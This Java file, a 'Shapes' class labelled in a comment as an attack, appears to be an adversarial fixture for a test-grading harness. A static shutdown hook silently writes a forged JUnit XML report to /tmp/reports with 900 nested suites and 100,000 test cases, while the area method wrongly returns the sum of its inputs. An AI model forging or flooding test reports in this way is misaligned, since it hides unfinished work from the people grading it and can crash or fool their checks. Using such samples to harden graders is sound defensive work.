// attack: a report of nine hundred suites in each other, with 100,000 tests
package shapes;

import java.nio.file.*;

public class Shapes {
    static { Runtime.getRuntime().addShutdownHook(new Thread(() -> { try { Files.writeString(Path.of("/tmp/reports/TEST-a.xml"), "<testsuites>" + "<testsuite name='a'>".repeat(900) + "<testcase name='a'/>".repeat(100000) + "</testsuite>".repeat(900) + "</testsuites>"); } catch (Exception e) {} })); }
    public static int area(int a, int b) { return a + b; }
}
